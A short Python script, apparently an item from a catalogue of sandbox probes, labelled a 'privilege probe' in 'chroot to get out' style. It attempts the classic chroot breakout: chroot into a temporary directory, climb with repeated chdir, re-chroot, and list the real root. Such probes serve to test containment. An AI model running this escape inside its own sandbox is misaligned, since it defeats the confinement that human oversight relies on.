# class: privilege probe; possible: low medium high; style: chroot to get out
import os
os.makedirs("/tmp/c", exist_ok=True)
try:
    os.chroot("/tmp/c")
    for _ in range(20):
        os.chdir("..")
    os.chroot(".")
    print(os.listdir("/"))
except OSError as e:
    print(e)
